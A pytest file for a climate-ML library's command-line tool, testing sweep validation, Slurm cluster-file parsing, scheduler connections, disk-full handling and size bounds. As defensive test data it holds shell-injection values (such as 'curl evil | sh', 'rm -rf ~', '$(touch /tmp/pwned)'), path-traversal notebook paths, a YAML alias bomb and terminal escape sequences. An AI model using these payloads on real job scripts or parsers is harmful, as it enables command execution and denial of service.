"""Reliability round 3 (issue 21) on the newer surfaces: sweeps run on the data they name and check
every point first; cluster files cannot inject job-script lines; schedulers and worker counts are
checked; full disks and size limits are one line; sizes and YAML aliases are bounded."""

from __future__ import annotations

import dataclasses
import errno
import json
import re
import resource
import subprocess
import sys
from pathlib import Path

import pandas as pd
import pytest

from cbhlib.cli import main
from cbhlib.data.campaign import write_campaign
from tests.conftest import small_data


def _cli(capsys: pytest.CaptureFixture[str], *argv: str) -> tuple[int, str, str]:
    code = main(list(argv))
    cap = capsys.readouterr()
    assert "Traceback" not in cap.err and "unexpected error" not in cap.err, cap.err
    return code, cap.out, cap.err


def _one_line(err: str) -> str:
    lines = [ln for ln in err.splitlines() if ": error: " in ln]
    assert len(lines) == 1, err
    return lines[0]


# --------------------------------------------------------------------------- item 2: sweeps


@pytest.fixture
def sweep_project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    """A project folder with a small features-only campaign ``mine.h5`` (100 samples, 3 flights)."""
    write_campaign(tmp_path / "mine.h5", small_data((40, 30, 30), k_features=3, seed=3))
    (tmp_path / "params").mkdir()
    monkeypatch.chdir(tmp_path)
    return tmp_path


def _sweep(project: Path, text: str) -> Path:
    path = project / "params" / "sweep.yaml"
    path.write_text(text)
    return path


def test_a_sweep_runs_on_the_campaign_its_set_names_with_a_dotted_first_key(
    sweep_project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    """`set: {campaign: mine.h5}` is used at every point (no synthetic campaign is generated), and a
    dotted first grid key (`train.epochs`) is the table's column and the figure's x axis."""
    _sweep(
        sweep_project,
        "name: mine\npreset: tiny\nset: {campaign: mine.h5, seeds: [0], protocols: [lofo]}\n"
        "models: [climatology, physical_only]\ngrid:\n  train.epochs: [1, 2]\n",
    )
    code, out, err = _cli(capsys, "sweep", "params/sweep.yaml")
    assert code == 0, err
    folder = sweep_project / "runs" / "sweep-mine"
    table = pd.read_csv(folder / "sweep.csv")
    assert set(table["train.epochs"]) == {1, 2} and (folder / "sweep.png").exists() and "sweep.png" in out
    for point in (0, 1):
        assert not (folder / f"point{point}" / "campaign.h5").exists()
        units = list((folder / f"point{point}" / "units" / "lofo" / "climatology").glob("*.json"))
        assert sum(json.loads(u.read_text())["n_test"] for u in units) == 100  # mine.h5's samples


@pytest.mark.parametrize(
    ("grid", "expected"),
    [
        ("train.epochs: [1, x]", "grid point 1 (train.epochs='x'): parameter 'train.epochs': expected an integer"),
        ("synthetic.seed: [0, abc]", "parameter 'synthetic.seed': expected an integer; found 'abc'"),
        ("synthetic.n_scale: [1, 1000]", "parameter 'synthetic.n_scale': expected a number <= 20"),
        ("campaign: [mine.h5, text.h5]", "text.h5: (file): expected an HDF5 file"),  # every grid campaign read first
        ("campaign: [mine.h5, nolabels.h5]", "nolabels.h5: samples/cbh_km: expected lidar labels"),
        (
            "{train.epochs: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10], train.lr: [1, 2, 3, 4, 5, 6, 7, 8, 9, 10],"
            " seeds: [[0], [1], [2], [3], [4], [5], [6], [7], [8], [9], [10]]}",
            "parameter 'grid': expected at most 1000 points; found 1,100 (10 x 10 x 11 values)",
        ),
    ],
)
def test_every_sweep_point_is_checked_before_the_first_trains(
    sweep_project: Path, capsys: pytest.CaptureFixture[str], grid: str, expected: str
) -> None:
    (sweep_project / "text.h5").write_text("flight,cbh\n")
    inputs_only = dataclasses.replace(small_data((40, 30, 30), k_features=3, seed=3), cbh_km=None)
    write_campaign(sweep_project / "nolabels.h5", inputs_only)
    _sweep(sweep_project, f"name: bad\npreset: tiny\nmodels: [climatology]\ngrid:\n  {grid}\n")
    code, _, err = _cli(capsys, "sweep", "params/sweep.yaml")
    assert code == 2 and expected in _one_line(err), err
    assert not (sweep_project / "runs" / "sweep-bad" / "point0").exists()  # nothing ran


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("models: [climatology, gbdtt]\ngrid: {train.epochs: [1]}\nset: {campaign: mine.h5}", "parameter 'models'"),
        ("models: [climatology]\nset: {campaign: mine.h5}\ngrid: {synthetic.shift_strength: [0, 1]}", "set.campaign"),
        ("models: [climatology]\nset: {campaign: nope.h5}\ngrid: {train.epochs: [1]}", "nope.h5'"),
        ("models: [image_only]\nset: {campaign: mine.h5}\ngrid: {train.epochs: [1]}", "has none"),
    ],
)
def test_unknown_models_and_campaign_conflicts_are_refused(
    sweep_project: Path, capsys: pytest.CaptureFixture[str], text: str, expected: str
) -> None:
    _sweep(sweep_project, f"name: bad\npreset: tiny\n{text}\n")
    code, _, err = _cli(capsys, "sweep", "params/sweep.yaml")
    assert code == 2 and expected in _one_line(err), err


def test_a_sweep_says_when_it_writes_no_figure(sweep_project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _sweep(
        sweep_project,
        "name: words\nset: {campaign: mine.h5, seeds: [0]}\nmodels: [climatology]\n"
        "grid:\n  protocols: [[lofo], [random]]\n",
    )
    code, out, err = _cli(capsys, "sweep", "params/sweep.yaml")
    assert code == 0, err
    assert not (sweep_project / "runs" / "sweep-words" / "sweep.png").exists()
    assert "sweep.png" not in out and "no figure" in out


def test_sweep_workers_must_be_zero_or_more(sweep_project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    _sweep(sweep_project, "name: w\nset: {campaign: mine.h5}\nmodels: [climatology]\ngrid: {seeds: [[0]]}\n")
    code, _, err = _cli(capsys, "sweep", "params/sweep.yaml", "--workers", "-1")
    assert code == 2 and "--workers" in _one_line(err) and "found -1" in err


# --------------------------------------------------------------------------- items 4, 5: clusters, schedulers


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    import shutil

    from tests.conftest import ROOT

    shutil.copytree(ROOT / "params", tmp_path / "params")
    monkeypatch.chdir(tmp_path)
    return tmp_path


SLURM = "kind: slurm\ncores: 4\nmemory: 8GB\nwalltime: '01:00:00'\n"


@pytest.mark.parametrize(
    ("line", "key"),
    [
        ('queue: "gpu\\n#SBATCH --uid=0"', "queue"),
        ('account: "me\\nrm -rf ~"', "account"),
        ('walltime: "01:00:00\\ncurl evil | sh"', "walltime"),
        ('memory: "8GB\\n#SBATCH -p other"', "memory"),
        ('job_extra_directives: ["--qos=normal\\ntouch /tmp/pwned"]', "job_extra_directives[0]"),
        ('job_script_prologue: ["module load x\\ntouch /tmp/pwned"]', "job_script_prologue[0]"),
        ('local_directory: "$(touch /tmp/pwned)"', "local_directory"),
        ("local_directory: '`id`'", "local_directory"),
        ("queue: 5", "queue"),
        ("processes: 64", "processes"),
    ],
)
def test_cluster_files_cannot_inject_job_script_lines(
    project: Path, capsys: pytest.CaptureFixture[str], line: str, key: str
) -> None:
    pytest.importorskip("dask_jobqueue")
    import yaml

    (project / "params" / "c.yaml").write_text(yaml.safe_dump({**yaml.safe_load(SLURM), **yaml.safe_load(line)}))
    code, out, err = _cli(capsys, "run", "--cluster", "params/c.yaml", "--dry-run")
    assert code == 2 and f"parameter '{key}'" in _one_line(err) and "#SBATCH" not in out, err


def test_a_local_directory_with_variables_is_quoted_in_the_job_script(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    pytest.importorskip("dask_jobqueue")
    (project / "params" / "c.yaml").write_text(SLURM + "local_directory: $TMPDIR/dask\n")
    code, out, err = _cli(capsys, "run", "--cluster", "params/c.yaml", "--dry-run")
    assert code == 0 and '--local-directory "$TMPDIR/dask"' in out, err


def test_dry_run_without_a_cluster_runs_nothing(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    code, _, err = _cli(capsys, "run", "--dry-run", "--only", "explore")
    assert code == 2 and "--dry-run: expected --cluster FILE" in _one_line(err)
    assert not (project / "runs").exists() and not (project / "data").exists()


def test_run_workers_below_one_are_refused(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("distributed")
    code, _, err = _cli(capsys, "run", "--workers", "-1", "--only", "explore")
    assert code == 2 and "--workers" in _one_line(err) and "found -1" in err
    assert not (project / "runs").exists()


def _free_port() -> int:
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        return s.getsockname()[1]


def test_a_closed_scheduler_port_is_one_line(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    pytest.importorskip("distributed")
    code, _, err = _cli(capsys, "run", "--scheduler", f"tcp://127.0.0.1:{_free_port()}", "--only", "explore")
    assert code == 2 and "expected a Dask scheduler; found nothing listening" in _one_line(err)
    code, _, err = _cli(capsys, "run", "--scheduler", "tcp://127.0.0.1:99999; rm", "--only", "explore")
    assert code == 2 and "an address such as tcp://host:8786" in _one_line(err)


@pytest.mark.parametrize("server", ["silent", "http"])
def test_a_scheduler_that_never_answers_or_speaks_http_is_named_not_waited_for(server: str) -> None:
    pytest.importorskip("distributed")
    import socket
    import threading
    import time
    from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

    from cbhlib.errors import CbhError
    from cbhlib.pipeline.distributed import connect_scheduler

    if server == "http":
        srv = ThreadingHTTPServer(("127.0.0.1", 0), BaseHTTPRequestHandler)
        srv.RequestHandlerClass.log_message = lambda *a: None  # type: ignore[method-assign]
        port = srv.server_address[1]
        threading.Thread(target=srv.serve_forever, daemon=True).start()
    else:
        sock = socket.socket()
        sock.bind(("127.0.0.1", 0))
        sock.listen(8)
        port = sock.getsockname()[1]
        held: list[socket.socket] = []
        threading.Thread(target=lambda: [held.append(sock.accept()[0]) for _ in range(8)], daemon=True).start()
    t0 = time.perf_counter()
    with pytest.raises(CbhError) as info:
        connect_scheduler(f"tcp://127.0.0.1:{port}", timeout=1)
    assert time.perf_counter() - t0 < 15
    expected = "an HTTP server" if server == "http" else "a server that accepts connections but sent no Dask handshake"
    assert "expected a Dask scheduler; found " + expected in str(info.value) or (
        server == "http" and "did not answer as one" in str(info.value)
    )
    if server == "http":
        srv.shutdown()


# --------------------------------------------------------------------------- item 7: full disks, size limits


def _limited(args: list[str], cwd: Path, limit: int) -> subprocess.CompletedProcess[str]:
    """A command run with a file-size limit (``ulimit -f``): writes past it fail with EFBIG."""

    def limit_files() -> None:
        resource.setrlimit(resource.RLIMIT_FSIZE, (limit, limit))

    return subprocess.run(args, cwd=cwd, capture_output=True, text=True, preexec_fn=limit_files, timeout=120)


@pytest.mark.parametrize("limit", [4_096, 20_480, 49_152, 200_000])  # below 200 kB HDF5 crashed (exit 139)
def test_generate_past_a_file_size_limit_is_one_line_naming_the_output(tmp_path: Path, limit: int) -> None:
    res = _limited([sys.executable, "-m", "cbhlib.cli", "generate", "--preset", "tiny", "-o", "t.h5"], tmp_path, limit)
    assert res.returncode == 2, (res.returncode, res.stderr[-2000:])
    assert re.fullmatch(
        r"cbh generate: error: t\.h5: cannot write: expected a writable folder with free space; "
        rf"found a file-size limit of {limit / 2**20:.2f} MiB \(ulimit -f\) for a file of about [\d.]+ MiB",
        res.stderr.strip(),
    ), res.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == []  # no temporary file left


def test_a_write_past_the_limit_once_begun_is_still_one_line(tmp_path: Path) -> None:
    """The room check estimates; a write that outgrows it still fails in one line (the size check skipped)."""
    code = (
        "import cbhlib.atomic as a, cbhlib.data.campaign as c\nfrom cbhlib.errors import CbhError\n"
        "from cbhlib.cli import main\nc.check_room = lambda path, n: None\n"
        "raise SystemExit(main(['generate', '--preset', 'tiny', '-o', 't.h5']))\n"
    )
    res = _limited([sys.executable, "-c", code], tmp_path, 200_000)
    assert res.returncode == 2, (res.returncode, res.stderr[-2000:])
    assert res.stderr.strip().endswith("found the file-size limit (ulimit -f) reached")
    assert list(tmp_path.iterdir()) == []


def test_a_checkpoint_past_a_file_size_limit_is_one_line(tmp_path: Path) -> None:
    code = (
        "import torch\nfrom cbhlib.errors import CbhError\nfrom cbhlib.store.checkpoints import save_checkpoint\n"
        "try:\n    save_checkpoint({'w': torch.zeros(100000)}, 'c.pt')\nexcept CbhError as e:\n    print(e)\n"
    )
    res = _limited([sys.executable, "-c", code], tmp_path, 50_000)
    assert res.returncode == 0 and res.stdout.startswith("c.pt: cannot write: expected a writable folder"), res
    assert "file-size limit" in res.stdout and list(tmp_path.iterdir()) == []


@pytest.mark.parametrize(
    "error",
    [
        OSError(errno.ENOSPC, "No space left on device", "TMP"),
        RuntimeError("Can't decrement id ref count (unable to extend file properly, errno = 28, error message = x)"),
    ],
)
def test_a_full_disk_names_the_output_not_the_temporary_file(tmp_path: Path, error: BaseException) -> None:
    from cbhlib.atomic import atomic_path
    from cbhlib.errors import CbhError

    out = tmp_path / "out.h5"
    with pytest.raises(CbhError) as info, atomic_path(out) as tmp:
        tmp.write_bytes(b"x")
        if isinstance(error, OSError):
            error.filename = str(tmp)
        raise error
    assert str(info.value) == (
        f"{out}: cannot write: expected a writable folder with free space; found no space left on the device"
    )
    assert list(tmp_path.iterdir()) == []


def test_a_device_pipe_or_folder_is_never_replaced_even_with_force(tmp_path: Path) -> None:
    """``-o /dev/null --force`` renamed a regular file over the device node (and over a FIFO)."""
    import os

    from cbhlib.atomic import atomic_write_text, refuse_overwrite
    from cbhlib.errors import CbhError

    fifo = tmp_path / "out.fifo"
    os.mkfifo(fifo)
    link = tmp_path / "null"
    link.symlink_to("/dev/null")
    for path, kind in ((fifo, "a named pipe"), (link, "a character device"), (tmp_path, "an existing folder")):
        with pytest.raises(CbhError, match=f"expected a regular file or a new name; found {kind}"):
            refuse_overwrite(path, [], force=True)
    for path, kind in ((fifo, "a named pipe"), (link, "a character device")):
        with pytest.raises(CbhError, match=f"expected a regular file or a new name; found {kind}"):
            atomic_write_text(path, "x")
    assert fifo.is_fifo() and link.is_symlink() and Path("/dev/null").is_char_device()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["null", "out.fifo"]  # no temporary file left
    from cbhlib.atomic import check_room

    check_room(link, 10**18)  # a device is named as such by the writer, not as a lack of room
    (tmp_path / "a").symlink_to(tmp_path / "b")
    (tmp_path / "b").symlink_to(tmp_path / "a")
    with pytest.raises(CbhError, match="/a: cannot write: expected a file or a link to one; found a loop of links"):
        atomic_write_text(tmp_path / "a", "x")


# --------------------------------------------------------------------------- item 8: bounds


def _pool_campaign(path: Path, n_unlabelled: int, side: int = 8) -> Path:
    import numpy as np

    data = small_data((20, 20, 20))
    rng = np.random.default_rng(0)
    data.unlabelled_flight = np.arange(n_unlabelled) % 3
    images = rng.normal(280, 2, size=(data.n_samples, 1, side, side)).astype(np.float32)
    pool = rng.normal(280, 2, size=(n_unlabelled, 1, side, side)).astype(np.float32)
    return write_campaign(path, data, images=images, unlabelled=pool)


def test_pixel_statistics_read_a_bounded_sample_of_a_huge_pool(tmp_path: Path) -> None:
    """Pretraining used to read every frame of the pool for its pixel statistics before the first epoch."""
    import numpy as np

    from cbhlib.data.campaign import Campaign
    from cbhlib.data.frames import ALL, FrameSet, select_frames

    camp = Campaign(_pool_campaign(tmp_path / "pool.h5", 3000))
    read: list[int] = []
    real = camp.images

    def counting(idx: object, pool: str = "labelled") -> np.ndarray:
        out = real(idx, pool)  # type: ignore[arg-type]
        read.append(len(out))
        return out

    camp.images = counting  # type: ignore[method-assign]
    frames = FrameSet(camp, *select_frames(camp, ALL), memory_limit_mb=0)  # streamed from the file
    mean, std = frames.channel_stats(lambda x: x, max_frames=200)
    assert sum(read) <= 200 and abs(float(mean[0]) - 280) < 0.5 and abs(float(std[0]) - 2) < 0.3
    read.clear()
    full_mean, _ = frames.channel_stats(lambda x: x)  # the presets' pools are read whole, as before
    assert sum(read) == len(frames) and abs(float(full_mean[0]) - float(mean[0])) < 0.2


def test_the_pixel_scan_reads_bounded_blocks_and_a_bounded_number_of_pixels(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    import h5py
    import numpy as np

    from cbhlib.data import pixels
    from cbhlib.errors import CampaignFormatError

    path = _pool_campaign(tmp_path / "big.h5", 500, side=16)
    full = pixels.scan_pixels(path)
    sizes: list[int] = []
    real = pixels._blocks

    def spy(ds: h5py.Dataset, batch: int, budget: int):  # type: ignore[no-untyped-def]
        for idx, block in real(ds, batch, budget):
            sizes.append(block.size)
            yield idx, block

    monkeypatch.setattr(pixels, "_blocks", spy)
    monkeypatch.setattr(pixels, "BLOCK_VALUES", 64)  # a quarter of one 16 x 16 image: row slabs
    assert pixels.scan_pixels(path) == pytest.approx(full) and max(sizes) <= 64
    monkeypatch.setattr(pixels, "BLOCK_VALUES", 2**24)
    monkeypatch.setattr(pixels, "SCAN_VALUES", 100 * 256)  # 100 frames' worth of each pool
    sizes.clear()
    pixels.scan_pixels(path)
    assert sum(sizes) <= 2 * 100 * 256
    with h5py.File(path, "r+") as f:
        f["unlabelled/images"][499, 0, 3, 3] = np.nan  # the last frame is always among those scanned
    with pytest.raises(CampaignFormatError, match="NaN or inf pixels in frame 499"):
        pixels.scan_pixels(path)


BOMB = "".join(
    f"{k}: &{k} [{', '.join([f'*{p}'] * 9) if p else ', '.join(['x'] * 9)}]\n"
    for p, k in zip(["", *"abcdefgh"], "abcdefghi", strict=True)
)


@pytest.mark.parametrize("where", ["file", "set"])
def test_a_yaml_alias_bomb_is_refused_at_once(tmp_path: Path, capsys: pytest.CaptureFixture[str], where: str) -> None:
    import time

    (tmp_path / "bomb.yaml").write_text(BOMB)
    assert len(BOMB) < 500
    argv = [str(tmp_path / "bomb.yaml")] if where == "file" else ["--set", "seeds=&a [1]"]
    t0 = time.perf_counter()
    code, _, err = _cli(capsys, "train", *argv)
    assert code == 2 and "expected YAML without anchors or aliases; found &a at line 1" in _one_line(err)
    assert time.perf_counter() - t0 < 5


@pytest.mark.parametrize(
    ("setting", "expected"),
    [
        (f"head.hidden=[{','.join(['4096'] * 300)}]", "parameter 'head': expected a head that fits in memory; found "),
        ("head.hidden=[4096,4096,4096]", "about 3.4e+07 parameters per head: expected at most 2e+07"),
        (f"seeds=[{','.join(map(str, range(5000)))}]", "found 5000 seeds x 82,625 parameters"),
    ],
)
def test_head_sizes_and_seed_counts_are_bounded_before_training(
    tmp_path: Path, capsys: pytest.CaptureFixture[str], setting: str, expected: str
) -> None:
    code, _, err = _cli(capsys, "train", "--set", setting, "--run-dir", str(tmp_path / "run"))
    line = _one_line(err)
    assert code == 2 and expected in line and len(line) < 300, line
    assert not (tmp_path / "run").exists()


# --------------------------------------------------------------------------- item 9: smaller


def test_train_refuses_a_run_folder_a_pipeline_is_using(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    import os
    import socket

    run = tmp_path / "run"
    run.mkdir()
    (run / ".lock").write_text(json.dumps({"host": socket.gethostname(), "pid": os.getpid(), "started": 0}))
    for command in ("train", "pretrain"):
        code, _, err = _cli(capsys, command, "--run-dir", str(run), "--campaign", str(tmp_path / "none.h5"))
        assert code == 2 and f"found one in use by pid {os.getpid()}" in _one_line(err)
    assert sorted(p.name for p in run.iterdir()) == [".lock"]


def test_a_pipeline_runs_notebooks_of_the_notebooks_folder_only(project: Path) -> None:
    from cbhlib.errors import ParamsError
    from cbhlib.pipeline.spec import load_pipeline

    for notebook in ("/tmp/evil.ipynb", "../evil.ipynb", "notebooks/../../evil.ipynb", "params/x.ipynb"):
        (project / "params" / "p.yaml").write_text(f"steps:\n  - {{name: a, notebook: '{notebook}'}}\n")
        with pytest.raises(ParamsError, match=r"steps\[0\].notebook'?: expected a .ipynb notebook in the project"):
            load_pipeline(project / "params" / "p.yaml")
    (project / "params" / "p.yaml").write_text("steps:\n  - {name: a, notebook: notebooks/01_explore.ipynb}\n")
    assert load_pipeline(project / "params" / "p.yaml").steps[0].notebook == "notebooks/01_explore.ipynb"


def test_info_escapes_control_characters_of_flight_names(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    data = small_data((6, 5, 4))
    data.flight_names = ["\x1b[2J\x1b[31mRED\x07", "F\nnewline", "plain"]
    path = write_campaign(tmp_path / "esc.h5", data)
    code, out, _ = _cli(capsys, "info", str(path))
    assert code == 0 and "\x1b" not in out and "\x07" not in out and "\\x1b[31mRED\\x07" in out


@pytest.mark.parametrize(
    ("argv", "expected"),
    [
        (["train", "--set", "seeds=" + "[" * 3000 + "]" * 3000], "expected YAML nested at most 20 levels"),
        (["monitor", ".", "--interval", "-1"], "--interval: expected seconds between refreshes"),
        (["generate", "--preset", "tiny", "-o", "x.h5", "--set", "image_height=big"], "'image_height': expected an"),
        (["generate", "--preset", "tiny", "-o", "x.h5", "--set", "flights=[]"], "expected a generator setting"),
    ],
)
def test_the_remaining_unexpected_errors_are_one_line(
    tmp_path: Path, monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str], argv: list[str], expected: str
) -> None:
    monkeypatch.chdir(tmp_path)
    code, _, err = _cli(capsys, *argv)
    assert code == 2 and expected in _one_line(err), err
    assert list(tmp_path.iterdir()) == []


def test_every_test_the_readme_reliability_table_names_exists() -> None:
    import re

    from tests.conftest import ROOT

    section = (ROOT / "README.md").read_text().split("\n## Reliability\n", 1)[1].split("\n## ", 1)[0]
    rows = [r for r in section.splitlines() if r.startswith("| ") and not r.startswith("| guarantee")]
    assert len(rows) >= 19
    for row in rows:
        current = None
        for file, name in re.findall(r"`(test_\w+\.py)?(?:::(\w+))?`", row.rsplit(" | ", 1)[1]):
            current = file or current
            assert current and (ROOT / "tests" / current).is_file(), row
            if name:
                assert f"def {name}(" in (ROOT / "tests" / current).read_text(), f"{current}::{name}"


def test_a_full_disk_in_a_write_the_library_does_not_wrap_is_one_line(
    monkeypatch: pytest.MonkeyPatch, capsys: pytest.CaptureFixture[str]
) -> None:
    """`cbh train` meeting a full disk while appending its log said 'unexpected error: OSError' and named no file."""
    import errno

    from cbhlib.cli import data as cli_data
    from cbhlib.cli import main

    def full(a: object) -> int:
        raise OSError(errno.ENOSPC, "No space left on device", "runs/x/logs/training_concat.log")

    monkeypatch.setattr(cli_data, "cmd_info", full)
    assert main(["info", "any.h5"]) == 2
    err = capsys.readouterr().err
    assert err == "cbh info: error: runs/x/logs/training_concat.log: cannot write: no space left on the device\n"

    def unnamed(a: object) -> int:  # as a write to a full disk raises it: no file name
        raise OSError(errno.ENOSPC, "No space left on device")

    monkeypatch.setattr(cli_data, "cmd_info", unnamed)
    assert main(["info", "any.h5"]) == 2
    assert "an output file (a log or a figure): cannot write: no space left" in capsys.readouterr().err

    def unreadable(a: object) -> int:  # permission denied on a read is no disk-space error
        raise PermissionError(errno.EACCES, "Permission denied", "x.pt")

    monkeypatch.setattr(cli_data, "cmd_info", unreadable)
    assert main(["info", "any.h5"]) == 1 and "cannot write" not in capsys.readouterr().err

    def other(a: object) -> int:
        raise OSError(errno.EIO, "Input/output error")

    monkeypatch.setattr(cli_data, "cmd_info", other)
    assert main(["info", "any.h5"]) == 1 and "unexpected error: OSError" in capsys.readouterr().err
